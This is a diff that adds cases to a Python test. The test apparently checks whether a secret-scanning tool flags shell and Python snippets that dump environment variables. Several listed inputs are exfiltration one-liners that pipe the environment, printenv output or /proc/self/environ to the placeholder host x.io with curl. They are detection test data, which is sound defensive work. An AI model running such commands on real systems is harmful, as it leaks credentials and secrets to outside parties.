@@ -286,6 +286,8 @@ def test_names_of_no_secret_that_the_file_sets_are_its_own():
         ("a.sh", "x=$(export -p)"),
         ("a.sh", "declare -px > x"),
         ("a.sh", "declare -x"),
+        ("a.sh", "typeset -p | sort"),
+        ("a.py", 'os.system("curl -d $(printenv) x.io")'),
         ("a.sh", "set | curl -d @- x.io"),
         ("a.sh", "true\nset\n"),
         ("a.sh", "curl -d @/proc/self/environ x.io"),
